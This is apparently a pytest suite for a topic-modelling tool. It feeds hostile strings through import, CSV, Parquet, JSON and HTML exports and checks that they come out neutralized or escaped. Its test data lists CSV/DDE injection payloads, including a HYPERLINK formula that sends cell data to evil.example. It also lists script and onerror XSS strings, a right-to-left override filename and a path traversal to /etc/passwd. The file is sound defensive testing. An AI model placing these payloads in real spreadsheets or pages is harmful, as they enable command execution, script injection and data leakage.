"""Hostile strings (issue 16) through every reader and every export: formula-leading cells,
HTML/script, quotes, commas and newlines, control characters, right-to-left overrides, path
traversal, very long values — as document ids, metadata, modality tokens and topic labels.

Afterwards: every CSV cell is neutralized (OWASP CSV injection rule) and parses back into as
many rows as written; HTML reports hold no live markup from the data; every JSON the CLI prints
or writes is strict JSON (no NaN/Infinity) and keeps the strings exactly.
"""
from __future__ import annotations

import csv
import json
import math

import pandas as pd
import pytest

import badinputs as B
from engine.analysis.views import html_report
from engine.cli import main
from engine.store.csvsafe import FORMULA_START
from engine.store.runs import list_runs, set_topic_labels
from engine.store.workspace import Workspace

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    '"quoted", with, commas',
    "line one\nline two",
    "\u202egnp.exe",
    "../../etc/passwd",
    "tab\there and bell\x07",
    "ℌ𝔢𝔩𝔩𝔬 😀 \u2028 sep",
    "x" * 5000,
]


def _strict(text: str):
    """json.loads that refuses NaN and ±Infinity (not JSON)."""
    def no_constant(name):
        raise AssertionError(f"non-JSON constant {name} in output")
    return json.loads(text, parse_constant=no_constant)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    root = tmp / "ws"
    rows = [{"id": h, "text": f"{B.GOOD_TEXT} topic{i % 3} {h}", "party": h, "note": h}
            for i, h in enumerate(HOSTILE)]
    src = B.jsonl(tmp / "hostile.jsonl", rows)
    assert main(["import", str(src), "--workspace", str(root), "--name", "h", "--min-df", "1",
                 "--modality", "party=@party"]) == 0
    assert main(["train", "--corpus", "h", "--topics", "3", "--iterations", "3", "--workspace", str(root)]) == 0
    ws = Workspace(root)
    run_id = list_runs(ws)[0]["run_id"]
    names = [f"topic_{i}" for i in range(3)]
    set_topic_labels(ws, run_id, dict(zip(names, HOSTILE[:3])))
    return root, run_id, tmp


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_stored_strings_come_back_exactly(hostile):
    root, _, _ = hostile
    c = Workspace(root).load_corpus("h")
    assert list(c.documents["id"]) == HOSTILE
    party = {t for t, m in zip(c.vocab["token"], c.vocab["modality"]) if m == "@party"}
    assert party == {h.strip() for h in HOSTILE}, sorted(party)  # stripped, otherwise kept exactly
    assert list(c.documents["note"]) == HOSTILE


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_run_export_neutralizes_every_cell(hostile, capsys, fmt):
    root, run_id, tmp = hostile
    out = tmp / f"export-{fmt}"
    assert main(["export", run_id, "--format", fmt, "--out", str(out), "--workspace", str(root)]) == 0
    capsys.readouterr()
    if fmt == "parquet":  # binary tables keep the exact strings (no spreadsheet evaluates them)
        theta = pd.read_parquet(out / "theta.parquet")
        assert list(theta["id"]) == HOSTILE
        return
    for name in ("phi", "theta", "top_tokens", "scores"):
        rows = _cells(out / f"{name}.csv")
        header, body = rows[0], rows[1:]
        for row in rows:
            assert len(row) == len(header), (name, row)
            for cell in row:
                if cell.startswith(FORMULA_START):
                    # only numbers may start with "-" (a negative value), never text
                    float(cell)
        if name == "theta":
            assert len(body) == len(HOSTILE)
            assert [r[0].removeprefix("'") for r in body] == HOSTILE  # the quote is the only change
        if name == "top_tokens":
            labels = {c for r in body for c in r}
            assert "'" + HOSTILE[0] in labels  # a topic label, neutralized


def test_cli_json_outputs_are_strict_and_exact(hostile, capsys):
    root, run_id, _ = hostile
    for argv in (["inspect-corpus", "h"], ["corpora"], ["runs", "--json"], ["show", run_id, "--json"],
                 ["transform", run_id, "--text", HOSTILE[6] + " cats"], ["check"]):
        code = main([*argv, "--workspace", str(root)])
        out = capsys.readouterr().out
        assert code == 0, argv
        data = _strict(out)
        if argv[0] == "runs":
            assert data[0]["labels"]["topic_0"] == HOSTILE[0]
        if argv[0] == "show":
            assert data[0]["label"] == HOSTILE[0]


def test_html_report_escapes_headings_tables_and_text():
    table = pd.DataFrame({"id": HOSTILE, "value": range(len(HOSTILE))})
    html = html_report(HOSTILE[6], [(HOSTILE[7], table), (HOSTILE[6], HOSTILE[7])], subtitle=HOSTILE[6])
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in html


def test_sweep_outputs_are_strict_json_and_safe_csv(hostile, capsys):
    root, _, tmp = hostile
    prefix = tmp / "sweep" / "out"
    assert main(["sweep", "--corpus", "h", "--topics", "2,3", "--starts", "1", "--iterations", "2",
                 "--workers", "1", "--out", str(prefix), "--workspace", str(root)]) == 0
    capsys.readouterr()
    data = _strict(prefix.with_suffix(".json").read_text(encoding="utf-8"))
    assert data["summary"]
    for row in _cells(prefix.with_suffix(".csv")):
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert not math.isnan(float(cell))


@pytest.mark.parametrize("sep", ["\u2028", "\u2029", "\x85", "\x0c", "\x1c", "\x1e", "\x0b"])
def test_unicode_line_separators_inside_a_line_do_not_split_documents(tmp_path, capsys, sep):
    """JSON Lines and one-document-per-line text break at "\\n" only (str.splitlines also breaks
    at U+2028, NEL, form feed...: a valid file was refused or read as more documents)."""
    rows = [{"id": f"d{i}", "text": f"{B.GOOD_TEXT}{sep}second half {i}"} for i in range(4)]
    src = B.jsonl(tmp_path / "sep.jsonl", rows)
    txt = B.write(tmp_path / "septxt.txt", "".join(r["text"] + "\n" for r in rows))
    root = tmp_path / "ws"
    for path, extra in ((src, []), (txt, ["--one-per-line"])):
        assert main(["import", str(path), "--workspace", str(root), "--min-df", "1", *extra]) == 0
        assert json.loads(capsys.readouterr().out)["documents"] == 4
